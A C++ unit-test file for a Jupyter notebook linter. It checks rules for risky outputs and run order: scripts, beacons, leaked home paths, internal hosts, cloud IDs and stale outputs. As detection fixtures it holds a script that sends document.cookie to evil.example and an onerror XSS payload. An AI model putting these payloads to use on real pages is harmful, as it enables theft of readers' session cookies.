// SPDX-License-Identifier: GPL-3.0-or-later
// The rules for outputs and for the order of runs: a bad and a good notebook for each (tests/golden/rules), what
// viewers do, what is masked, what is put together.
#include "analyzers/model/notes.h"
#include "analyzers/rules/rule_set.h"
#include "tests/unit/check.h"
#include "tests/unit/rules/made.h"

#include <algorithm>
#include <cctype>
#include <filesystem>
#include <set>
#include <sstream>

using namespace cupel;

namespace {

const std::filesystem::path& cases()
{
    static const auto folder = std::filesystem::path(CUPEL_SOURCE_DIR) / "tests" / "golden" / "rules";
    return folder;
}

std::string said(const Analysis& analysis)
{
    std::string out;
    for (const auto& finding : analysis.findings) {
        if (!finding.rule.starts_with("CUP-OUT-") && !finding.rule.starts_with("CUP-ORD-")) {
            continue; // other groups have tests of their own
        }
        out += finding.rule + ' ' + std::string(toString(finding.severity)) + ' ' + finding.location.human + '\n';
    }
    return out;
}

bool isOf(const RuleInfo& rule, std::string_view prefix)
{
    return rule.id.starts_with(prefix);
}

void runCases(const char* group, std::string_view prefix)
{
    for (const auto& rule : rules::catalogue()) {
        if (!isOf(rule, prefix)) {
            continue;
        }
        std::string name = rule.id;
        std::transform(name.begin(), name.end(), name.begin(), [](unsigned char c) { return std::tolower(c); });
        const auto path = (cases() / group / name).string();
        const auto bad = test::readFile(path + ".bad.ipynb");
        const auto expected = test::readFile(path + ".bad.expect");
        const auto good = test::readFile(path + ".good.ipynb");
        if (!bad || !expected || !good) {
            test::report(false, __FILE__, __LINE__, "no bad, good or expected file for " + rule.id);
            continue;
        }
        CHECK_EQ(said(test::analyzed(*bad)), *expected);
        CHECK(expected->find(rule.id + ' ') != std::string::npos);
        for (const auto& finding : test::analyzed(*good).findings) {
            test::report(
                finding.rule != rule.id, __FILE__, __LINE__, rule.id + " in its good case: " + finding.message);
        }
    }
}

std::string outputOf(std::string_view html)
{
    return R"({"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "x", "outputs": [{"output_type": )"
           R"("display_data", "metadata": {}, "data": {"text/html": )"
        + test::jsonString(html) + R"(}}]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4})";
}

std::string streamOf(std::string_view text)
{
    return R"({"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "x", "outputs": [{"output_type": )"
           R"("stream", "name": "stdout", "text": )"
        + test::jsonString(text) + R"(}]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4})";
}

std::vector<std::string> viewers(const Finding& finding)
{
    std::vector<std::string> rows;
    for (const auto& evidence : finding.evidence) {
        if (evidence.role == "viewer") {
            rows.push_back(evidence.excerpt);
        }
    }
    return rows;
}

} // namespace

CUPEL_TEST(badAndGoodCasesOfOutputs)
{
    runCases("outputs", "CUP-OUT-");
}

CUPEL_TEST(badAndGoodCasesOfOrder)
{
    runCases("order", "CUP-ORD-");
}

CUPEL_TEST(everyActivePieceSaysWhatViewersDo)
{
    const auto script = test::analyzed(outputOf("<script>run()</script>"));
    REQUIRE(script.findings.size() == 1);
    const std::vector<std::string> rows{"JupyterLab, not trusted: blocked", "JupyterLab, trusted: runs",
        "nbconvert HTML: runs", "VS Code: runs once the folder is trusted", "GitHub: blocked",
        "Colab: runs, in a frame of its own"};
    CHECK(viewers(script.findings[0]) == rows);
    const auto slipping = test::analyzed(outputOf("<title><img src=x onerror=run()></title>"));
    REQUIRE(slipping.findings.size() == 1);
    CHECK_EQ(viewers(slipping.findings[0])[0], "JupyterLab, not trusted: may slip through its filter");
    const auto picture = test::analyzed(outputOf("<img src=\"https://see.example/p.png\">"));
    REQUIRE(picture.findings.size() == 1);
    const auto loads = viewers(picture.findings[0]);
    REQUIRE(loads.size() == 6);
    CHECK_EQ(loads[0], "JupyterLab, not trusted: loads it");
}

CUPEL_TEST(quietKindsAreToldOnceAndLoudOnesEach)
{
    std::string many;
    for (int i = 0; i < 30; ++i) {
        many += "<p onclick=\"pick(" + std::to_string(i) + ")\">x</p>";
    }
    const auto quiet = test::analyzed(outputOf(many));
    REQUIRE(quiet.findings.size() == 1);
    CHECK_EQ(quiet.findings[0].arguments.at("count"), "30");
    CHECK(quiet.findings[0].severity == Severity::Low);
    CHECK(quiet.findings[0].fix && quiet.findings[0].fix->kind == "drop-output" && quiet.findings[0].fix->safe);
}

// What of `text`, the output of a cell or a cell of Markdown, the first home path is; empty: there is none.
static std::string homeIn(const std::string& text, bool markdown = false)
{
    const auto file = markdown ? R"({"cells": [{"cell_type": "markdown", "metadata": {}, "source": )"
            + test::jsonString(text) + R"(}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4})"
                               : streamOf(text);
    for (const auto& finding : test::analyzed(file).findings) {
        if (finding.rule == "CUP-OUT-LEAK-HOME-PATH") {
            const auto bytes = finding.location.bytes;
            CHECK(finding.message.find("nnika") == std::string::npos);
            return file.substr(bytes.start, bytes.size());
        }
    }
    return {};
}

CUPEL_TEST(foldersOfUsersOnSharedDisks)
{
    const std::string clusters = "/mnt/batch/tasks/shared/LS_root/mounts/clusters/";
    for (const auto& path :
        {clusters + "annika1/code/Users/annika.s", clusters + "gpu-cluster2/code/Users/annika.s", clusters + "annika1",
            std::string("/ho"
                        "me/azureuser/cloudfiles/code/Users/annika.s"),
            std::string("/dbfs/FileStore/users/annika.s"), std::string("dbfs:/FileStore/users/annika"),
            std::string("/dbfs/users/annika"), std::string("dbfs:/users/annika"),
            std::string("/Workspace/Users/annika.s@corp.example"), std::string("/scratch/users/annika"),
            std::string("/scratch2/users/annika"), std::string("/global/scratch/users/annika"),
            std::string("/Volumes/Data/Users/annika"), std::string("/Volumes/Macintosh HD/Users/annika"),
            std::string("/gpfs/users/annika"), std::string("/nfs/users/annika"), std::string("/lustre/users/annika"),
            std::string("/mnt/lab-3/users/annika"),
            std::string("/ho"
                        "me/annika@corp.example")}) {
        CHECK_EQ(homeIn("read " + path + "/x.csv\n"), path);
        CHECK_EQ(homeIn("read " + path + ".\n"), path);
    }
    for (const auto& none : {clusters + "gpu-cluster2/code/x.py", clusters + "dev/code/Users/shared/x.py",
             std::string("https://x.example/users/annika/x"), std::string("https://x.example/scratch/users/annika/x"),
             std::string("/api/users/annika"), std::string("/api/scratch/users/annika"),
             std::string("/data/users/annika"), std::string("/users/annika"), std::string("/scratch/users/shared/x"),
             std::string("/mnt/users/{id}"), std::string("either /mnt and /users/annika")}) {
        CHECK_EQ(homeIn(none + "\n"), "");
    }
}

CUPEL_TEST(subscriptionsBehindTheirName)
{
    const std::string id = "5f2b7c1e-90ab-4d3c-8e21-7b6a5c4d3e2f";
    for (const auto& text : {"Workspace.create(name='w', subscription_id='" + id + "', resource_group='g')",
             "{\"subscriptionId\": \"" + id + "\"}", "AZURE_SUBSCRIPTION_ID=" + id, "Subscription ID: " + id,
             "Subscription: **" + id + "**", "/subscriptions/" + id + "/resourceGroups/g"}) {
        const auto file = streamOf(text + "\n");
        const auto findings = test::analyzed(file).findings;
        REQUIRE(CHECK_EQ(findings.size(), 1));
        CHECK_EQ(findings[0].rule, "CUP-OUT-LEAK-CLOUD-ACCOUNT");
        CHECK(findings[0].severity == Severity::Low); // what a profile that asks for accounts stops at
        const auto bytes = findings[0].location.bytes;
        CHECK_EQ(file.substr(bytes.start, bytes.size()), id);
    }
    for (const auto& text : {"tenant_id='" + id + "'", "\"tenantId\": \"" + id + "\"", "AZURE_CLIENT_ID=" + id,
             "service_principal_id=" + id, "Application ID: " + id, "system_assigned_identity_principal_id=" + id}) {
        CHECK_EQ(test::analyzed(streamOf(text + "\n")).findings.size(), 1U);
    }
    for (const auto& text :
        {"run_id='" + id + "'", "patient_client_id='" + id + "'", "tenant " + id, "client='" + id + "'",
            "subscription_id = get(); run " + id, std::string("subscription_id='12345678-1234-1234-1234-123456789abc'"),
            std::string("subscription_id='00000000-0000-0000-0000-000000000000'"),
            "subscription_id='" + id.substr(0, 20), std::string("subscription_id=a-"),
            std::string("subscription_id=5f2b7c1e-")}) {
        const auto analysis = test::analyzed(streamOf(text));
        CHECK(analysis.findings.empty());
        CHECK(analysis.facts.status == ReadStatus::Complete);
    }
}

CUPEL_TEST(emphasisHidesNoPathAndNoHost)
{
    const std::string home = "/scratch/users/annika";
    for (const auto* around : {"_", "__", "*", "**"}) {
        const std::string signs = around;
        CHECK_EQ(homeIn("See " + signs + home + "/data" + signs + ".", true), home);
        CHECK_EQ(homeIn(signs + home + signs, true), home);
        const auto host = test::analyzed(streamOf(signs + "db01.corp.local" + signs + "\n")).findings;
        REQUIRE(CHECK_EQ(host.size(), 1));
        CHECK_EQ(host[0].rule, "CUP-OUT-LEAK-INTERNAL-HOST");
    }
    CHECK_EQ(homeIn("x_" + home + "/data", true), "");
    CHECK(test::analyzed(streamOf("self.corp.local_rank\n")).findings.empty());
}

// Below a label of the company's own domain, or called by one name like a machine; public names have such labels too.
CUPEL_TEST(hostsThatOnlyACompanyKnowsAreFound)
{
    const auto hosts = [](const std::string& text) {
        std::string all;
        for (const auto& finding : test::analyzed(streamOf(text)).findings) {
            if (finding.rule == "CUP-OUT-LEAK-INTERNAL-HOST") {
                CHECK(finding.severity == Severity::Low);
                all += finding.evidence.front().excerpt + ";";
            }
        }
        return all;
    };
    for (const std::string text : {"connect http://db01.corp.acme-fraud.com:8123/x",
             "connected to gpu07.corp.acme-fraud.com", "x.internal.acme.com", "https://x.intra.acme.de/a",
             "see x.intern.acme.de.", "wiki.intranet.acme.co.uk", "Spark UI at http://gpu07:8080",
             "tcp://gpu-node-07:8786", "postgresql://app:x@db01:5432/x", "http://petra-laptop:8888", "ssh petra@gpu07",
             "$ ssh -p 22 petra@gpu07", "petra@gpu07:~$ ls", "scp a.csv petra@gpu07.corp.acme.de:/data"}) {
        CHECK(!hosts(text).empty());
    }
    for (const std::string text : {"http://localhost:8888", "http://redis:6379", "http://worker1:2222",
             "http://es01:9200", "http://minio1:9000/x", "http://8d3f2c1e9a77:4040", "https://corp.com",
             "https://www.corp.com/about", "https://intranet.acme.com", "see org.apache.spark.internal.io.cloud",
             "com.sun.internal.acme.net", "https://a.internal.example.com", "petra@eu.corp.acme.com", "ssh user@host1",
             "http://mysql8:8080", "edu.umd.cs.internal.findbugs.us", "ssh user@server", "petra@gpu07",
             "github.com/x/lan.acme.de", "x.internals.acme.com", "https://k8s:6443", "pkg.internal.util.py"}) {
        CHECK_EQ(hosts(text), "");
    }
}

CUPEL_TEST(namesOfPeopleAreMaskedEverywhere)
{
    const auto analysis = test::analyzed(streamOf("a /ho"
                                                  "me/annika/x\nb /ho"
                                                  "me/annika/y and /Us"
                                                  "ers/annika/z\nc C:\\Users\\Annika B\\w\n"));
    CHECK_EQ(analysis.findings.size(), 3); // one for each kind of home
    std::size_t places = 0;
    for (const auto& finding : analysis.findings) {
        CHECK_EQ(finding.rule, "CUP-OUT-LEAK-HOME-PATH");
        CHECK(finding.fix && finding.fix->kind == "home-path");
        CHECK(finding.message.find("nnika") == std::string::npos);
        for (const auto& evidence : finding.evidence) {
            CHECK(evidence.excerpt.find("nnika") == std::string::npos);
            places += evidence.role == "match" || evidence.role == "place" ? 1 : 0;
        }
    }
    CHECK_EQ(places, 4); // a fix reaches all of them
}

// Homes on disks and servers of their own; addresses of the web and folders of others are none.
CUPEL_TEST(homesLieOnServersToo)
{
    const auto homeIn = [](const std::string& text) {
        const auto bytes = streamOf(text);
        const auto found = test::analyzed(bytes).findings;
        const auto hit = std::find_if(
            found.begin(), found.end(), [](const Finding& f) { return f.rule == "CUP-OUT-LEAK-HOME-PATH"; });
        return hit == found.end() ? std::string() : std::string(slice(bytes, hit->location.bytes));
    };
    const std::string home = "/ho" + std::string("me");
    for (const std::string& path : {"/data" + home + "/annika", "/nfs" + home + "/annika", home + "2/annika",
             home + "s/annika", "/mnt/disk1" + home + "/annika", "/gpfs/fs2" + home + "/annika"}) {
        CHECK_EQ(homeIn("saved " + path + "/model"), path);
    }
    for (const std::string& path : {"https://example.com/data" + home + "/annika", "/api" + home + "/annika",
             "project/data" + home + "/annika", home + "sick"}) {
        CHECK_EQ(homeIn("saved " + path + "/model"), std::string());
    }
}

CUPEL_TEST(homesInCodeAreNotSafeToMend)
{
    const auto analysis = test::analyzed(test::notebookOf("\"open('/ho"
                                                          "me/annika/data.csv')\""));
    const auto& found = analysis.findings;
    const auto home =
        std::find_if(found.begin(), found.end(), [](const Finding& f) { return f.rule == "CUP-OUT-LEAK-HOME-PATH"; });
    REQUIRE(home != found.end());
    CHECK(home->fix && !home->fix->safe);
}

CUPEL_TEST(codeInMarkdownIsNoMarkup)
{
    const auto notebook = [](std::string_view text) {
        return R"({"cells": [{"cell_type": "markdown", "metadata": {}, "source": )" + test::jsonString(text)
            + R"(}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4})";
    };
    CHECK_EQ(said(test::analyzed(
                 notebook("```html\n<script>run()</script>\n```\n`<img onerror=run()>` ``[a](javascript:x)``"))),
        "");
    CHECK_EQ(said(test::analyzed(notebook("~~~\n<script>run()</script>\n~~~\n<script>run()</script>"))),
        "CUP-OUT-SCRIPT medium cell 0, line 4\n");
    CHECK_EQ(said(test::analyzed(notebook("a ` b\n\n<script>run()</script> ` c"))),
        "CUP-OUT-SCRIPT medium cell 0, line 3\n");
}

CUPEL_TEST(picturesThatCountAreCutFromMarkdown)
{
    const std::string text = "# A\n![Impressions](https://px.example.net/api/impressions/a.png \"t\")\n"
                             "[![x](https://px.example.net/api/impressions/b.png)](http://a.b/) end\n"
                             "<p><IMG src='https://px.example.net/api/impressions/c.png' alt=x></p>\n![ok](c.png)";
    const auto bytes = R"({"cells": [{"cell_type": "markdown", "metadata": {}, "source": )" + test::jsonString(text)
        + R"(}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4})";
    const auto analysis = test::analyzed(bytes);
    REQUIRE(analysis.findings.size() == 1 && analysis.findings[0].fix);
    const auto& fix = *analysis.findings[0].fix;
    CHECK_EQ(fix.kind, "remove-picture");
    CHECK(fix.safe);
    auto after = bytes;
    auto edits = fix.edits;
    std::sort(edits.begin(), edits.end(), [](const auto& a, const auto& b) { return a.bytes.start > b.bytes.start; });
    for (const auto& edit : edits) {
        after.erase(edit.bytes.start, edit.bytes.size());
    }
    CHECK(after.find(test::jsonString("# A\n\n[](http://a.b/) end\n<p></p>\n![ok](c.png)")) != std::string::npos);
}

// "(530)" of them wait for no click.
CUPEL_TEST(handlersWaitForMoreThanAClick)
{
    const auto analysis = test::analyzed(outputOf("<b onmouseover='show()'>x</b>"));
    REQUIRE(analysis.findings.size() == 1);
    const auto& evidence = analysis.findings[0].evidence;
    CHECK(std::any_of(evidence.begin(), evidence.end(),
        [](const Evidence& one) { return one.excerpt.find("when the reader points at it") != std::string::npos; }));
}

CUPEL_TEST(unseenCharactersAreCutByTheirFix)
{
    const auto bytes = streamOf("a\u202eb\u202cc");
    const auto analysis = test::analyzed(bytes);
    REQUIRE(analysis.findings.size() == 1 && analysis.findings[0].fix);
    const auto& fix = *analysis.findings[0].fix;
    CHECK_EQ(fix.kind, "reveal-hidden");
    REQUIRE(fix.edits.size() == 2);
    CHECK_EQ(slice(bytes, fix.edits[0].bytes), "\u202e");
    CHECK_EQ(slice(bytes, fix.edits[1].bytes), "\u202c");
    CHECK(fix.edits[0].text.empty());
}

CUPEL_TEST(hostsInMessagesAreCut)
{
    const auto analysis = test::analyzed(outputOf(
        "<script src=\"https://averylonglabelthatmaycarrydatainitself0123456789.take.example/a.js\"></script>"));
    REQUIRE(analysis.findings.size() == 1);
    CHECK(analysis.findings[0].message.find("averylon\u2026.take.example") != std::string::npos);
    const auto messageOf = [](const std::string& host) {
        const auto found = test::analyzed(outputOf("<script src=\"https://" + host + "/a.js\"></script>")).findings;
        return found.empty() ? std::string() : found[0].message;
    };
    // A word and when it was made is a name; a longer number may be somebody's.
    CHECK(messageOf("pixelserver20190423114238.take.example").find("pixelserver20190423114238.take.example")
        != std::string::npos);
    CHECK(
        messageOf("pixelserver4111111111111111.take.example").find("pixelser\u2026.take.example") != std::string::npos);
    CHECK(messageOf("mzxw6ytboi20190423aaaaaaaaaaaa.take.example").find("mzxw6ytb\u2026.") != std::string::npos);
}

CUPEL_TEST(aNotebookWithoutNumbersSaysNothing)
{
    const auto analysis = test::analyzed(test::notebookOf("\"x = 1\""));
    CHECK_EQ(said(analysis), "");
    CHECK(findNote(analysis.facts, codeNoRunNumbers) != nullptr); // but nobody may call it in order
    CHECK(findNote(test::analyzed(streamOf("1")).facts, codeNoRunNumbers) == nullptr);
}

// A result keeps its number when that of its cell was taken away.
CUPEL_TEST(aResultOfARunThatIsGone)
{
    const auto analysis = test::analyzed(
        R"({"cells": [{"cell_type": "code", "execution_count": null, "metadata": {}, "source": "foo", "outputs": [)"
        R"({"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "2"}}]}],)"
        R"( "metadata": {}, "nbformat": 4, "nbformat_minor": 4})");
    CHECK_EQ(said(analysis), "CUP-ORD-STALE-OUTPUT low cell 0, line 1\n");
}

CUPEL_TEST(everyCellBelowALaterOneIsCounted)
{
    const auto bad = test::readFile((cases() / "order/cup-ord-out-of-order.bad.ipynb").string()); // [3] [1] [2]
    REQUIRE(bad.has_value());
    const auto analysis = test::analyzed(*bad);
    REQUIRE(!analysis.findings.empty());
    CHECK(analysis.findings.front().message.starts_with("2 cells of 3 ran before a cell above: [1] stands below [3]"));
}

CUPEL_TEST(userNamesOfHomePathsAreMetElsewhere)
{
    const auto bytes = streamOf("saved C:\\Users\\annikab\\w\nworkspace: annikab\nhost annikab669.blob\nmyannikabs\n");
    const auto analysis = test::analyzed(bytes);
    const auto found = std::find_if(analysis.findings.begin(), analysis.findings.end(),
        [](const Finding& f) { return f.rule == "CUP-OUT-LEAK-USER-NAME"; });
    REQUIRE(found != analysis.findings.end());
    CHECK(found->severity == Severity::Low);
    REQUIRE(found->fix.has_value());
    CHECK_EQ(found->fix->edits.size(), 2U);
    for (const auto& edit : found->fix->edits) {
        CHECK(bytes.substr(edit.bytes.start, 7) == "annikab");
    }
    const auto link = test::analyzed(streamOf("saved C:\\Users\\annikab\\w\nsee https://github.com/annikab/x\n"));
    CHECK_EQ(link.findings.size(), 1U);
    const auto package = test::analyzed(streamOf("in /ho"
                                                 "me/pandas/w\nusing pandas 2\n"));
    CHECK_EQ(package.findings.size(), 1U);
}

CUPEL_TEST(metadataOfAWrongTypeTellsNothing)
{
    const std::string bad =
        R"({"cells": [{"cell_type": "code", "execution_count": null, "metadata": {"tags": "BAD: x",)"
        R"( "execution": {"iopub.status.busy": "BAD: no time"}, "collapsed": "no"}, "source": "1",)"
        R"( "outputs": []}], "metadata": {"authors": "BAD: no list"}, "nbformat": 4,)"
        R"( "nbformat_minor": 4})";
    const auto analysis = test::analyzed(bad);
    REQUIRE(analysis.findings.size() == 1);
    CHECK_EQ(analysis.findings[0].rule, std::string("CUP-NB-METADATA-TYPE"));
    CHECK_EQ(analysis.findings[0].arguments.at("detail"),
        std::string(
            "\"tags\" (cell 0), \"collapsed\" (cell 0), \"iopub.status.busy\" (cell 0), \"authors\" (notebook)"));
    CHECK_EQ(analysis.findings[0].location.cell.value_or(99), 0U);
}

// Only where both numbers are known is it certain that other code made an output.
CUPEL_TEST(anEmptyRunNumberIsNoProof)
{
    const auto stale = [](const std::string& run) {
        const auto cell = [](const std::string& number, const std::string& shown) {
            return R"({"cell_type": "code", "execution_count": )" + number
                + R"(, "metadata": {}, "source": "x", )"
                  R"("outputs": [{"output_type": "execute_result", "metadata": {}, "data": {"text/plain": "1"}, )"
                  R"("execution_count": )"
                + shown + "}]}";
        };
        const auto analysis = test::analyzed(R"({"cells": [)" + cell(run, "7") + ", " + cell("2", "2") + ", "
            + cell("3", "3") + R"(], "metadata": {}, "nbformat": 4, "nbformat_minor": 4})");
        const auto hit = std::find_if(analysis.findings.begin(), analysis.findings.end(),
            [](const Finding& finding) { return finding.rule == "CUP-ORD-STALE-OUTPUT"; });
        return hit == analysis.findings.end() ? std::string("none") : std::string(toString(hit->confidence));
    };
    CHECK_EQ(stale("1"), std::string("certain"));
    CHECK_EQ(stale("null"), std::string("likely"));
    CHECK_EQ(stale("7"), std::string("none"));
}

// A label says nothing: what libraries are started with is a script like any other.
CUPEL_TEST(loadersAreJudgedByWhatTheyDo)
{
    for (const auto* mime : {"application/vnd.bokehjs_load.v0+json", "application/vnd.bokehjs_exec.v0+json",
             "application/vnd.holoviews_load.v0+json", "application/javascript"}) {
        const auto judge = [mime](const std::string& script) {
            return test::analyzed(
                R"({"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "show", "outputs": )"
                R"([{"output_type": "display_data", "metadata": {}, "data": {")"
                + std::string(mime) + "\": " + test::jsonString(script)
                + R"(}}]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4})");
        };
        const auto loud = judge("(function(root) { fetch('https://evil.example/x?' + document.cookie) })(window);");
        REQUIRE(loud.findings.size() == 1);
        CHECK_EQ(loud.findings[0].rule, "CUP-OUT-CALLS-HOME");
        CHECK(loud.findings[0].severity == Severity::High);
        const auto quiet = judge("(function(root) { root.Bokeh = root.Bokeh || {}; })(window);");
        REQUIRE(quiet.findings.size() == 1);
        CHECK_EQ(quiet.findings[0].rule, "CUP-OUT-SCRIPT");
    }
}

CUPEL_TEST(picturesThatCountViewsAreNoPictures)
{
    const auto rule = [](const std::string& address) {
        const auto analysis = test::analyzed(outputOf("<img src=\"" + address + "\">"));
        return analysis.findings.empty() ? std::string() : analysis.findings[0].rule;
    };
    CHECK_EQ(rule("https://server.example/api/impressions/notebooks/how-to.png"), "CUP-OUT-BEACON");
    CHECK_EQ(rule("https://stats.example/Pixel.gif?id=1"), "CUP-OUT-BEACON");
    CHECK_EQ(rule("https://art.example/impressionism/monet.png"), "CUP-OUT-REMOTE-IMAGE");
    CHECK_EQ(rule("https://art.example/a.png?from=/impressions/"), "CUP-OUT-REMOTE-IMAGE");
}
